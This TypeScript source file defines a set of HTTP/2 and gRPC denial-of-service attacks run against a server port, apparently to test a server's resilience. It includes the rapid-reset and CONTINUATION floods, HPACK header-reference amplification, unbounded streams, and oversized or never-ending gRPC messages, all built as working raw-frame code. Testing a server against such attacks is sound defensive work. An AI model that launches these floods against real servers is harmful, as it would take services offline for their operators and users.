import { ErrorCode } from '../frames/error-code';
import { Setting } from '../frames/frame';
import { clientStreamId, opening } from './attack';
import { FLOODS } from './floods';
import { callFields, grpcMessage } from './grpc-request';
import { indexedField, literalBlock, literalField, rememberedField } from './header-block';
import { continuationFrame, dataFrame, headersFrame, resetFrame, windowUpdateFrame } from './raw-frame';
import { RawPeer } from './raw-peer';
import { WindowedSender } from './windowed-sender';

/** Whom to attack. */
export interface Attacked {
  readonly port: number;
  /** Of a unary method that there is. */
  readonly path: string;
}

/** What one hostile connection does, for servers of which nothing is known but a method. */
export interface Attack {
  readonly name: string;
  /** Resolves when the server has ended the connection or all was sent, and the connection is closed. */
  readonly launch: (attacked: Attacked) => Promise<void>;
}

const FLOOD = 100_000;
const STREAMS = 20_000;
const NOTHING = Buffer.alloc(0);
const MIB = 2 ** 20;

export const ATTACKS: readonly Attack[] = [
  attack('rapid reset', (peer, { path }) =>
    peer.flood(STREAMS, (i) => {
      const id = clientStreamId(i);
      return Buffer.concat([opening(id, path), resetFrame(id, ErrorCode.CANCEL)]);
    }),
  ),
  attack('resets that the server is made to send', (peer, { path }) =>
    peer.flood(STREAMS, (i) =>
      Buffer.concat([opening(clientStreamId(i), path), windowUpdateFrame(clientStreamId(i), 0)]),
    ),
  ),
  attack('streams without limit', (peer, { path }) => peer.flood(STREAMS, (i) => opening(clientStreamId(i), path))),
  attack('CONTINUATION', (peer, { path }) => {
    peer.send(opening(1, path, [], { endHeaders: false }));
    return peer.flood(FLOOD, () => continuationFrame(1, NOTHING, false));
  }),
  attack('references to one large header', (peer, { path }) => {
    const references = Array.from({ length: 11_000 }, () => indexedField(62));
    const block = Buffer.concat([
      literalBlock(callFields(path)),
      rememberedField('x', 'v'.repeat(4_000)),
      ...references,
    ]);
    return peer.flood(200, (i) => headersFrame(clientStreamId(i), block, { end: true }), 10);
  }),
  attack('headers of many open streams, by reference', (peer, { path }) => {
    const references = Array.from({ length: 80 }, () => indexedField(62));
    const remembered = rememberedField('x', 'v'.repeat(40));
    return peer.flood(10_000, (i) => {
      const block = [literalBlock(callFields(path)), ...(i === 0 ? [remembered] : []), ...references];
      return headersFrame(clientStreamId(i), Buffer.concat(block));
    });
  }),
  attack('empty header names', (peer, { path }) => {
    const block = Buffer.concat([literalBlock(callFields(path)), literalField('', 'x')]);
    return peer.flood(10_000, (i) => headersFrame(clientStreamId(i), block, { end: true }));
  }),
  ...FLOODS.map(({ name, frame }) =>
    attack(name, (peer, { path }) => {
      peer.send(opening(1, path));
      return peer.flood(FLOOD, frame);
    }),
  ),
  attack('messages that never end', async (peer, { path }) => {
    const streams = Array.from({ length: 100 }, (_, i) => clientStreamId(i));
    for (const id of streams) peer.send(opening(id, path), dataFrame(id, grpcMessage('x', 0, 4 * MIB)));
    await new WindowedSender(peer).fill(streams, Buffer.alloc(16_384, 'x'), 390 * MIB);
  }),
  attack('messages of 4 GiB', (peer, { path }) =>
    peer.flood(2_000, (i) => {
      const id = clientStreamId(i);
      return Buffer.concat([opening(id, path), dataFrame(id, grpcMessage('x', 0, 2 ** 32 - 1))]);
    }),
  ),
];

function attack(name: string, send: (peer: RawPeer, attacked: Attacked) => Promise<unknown>): Attack {
  return {
    name,
    launch: async (attacked) => {
      const peer = await RawPeer.open(attacked.port, [[Setting.INITIAL_WINDOW_SIZE, 0]]);
      await send(peer, attacked);
      await peer.close();
    },
  };
}
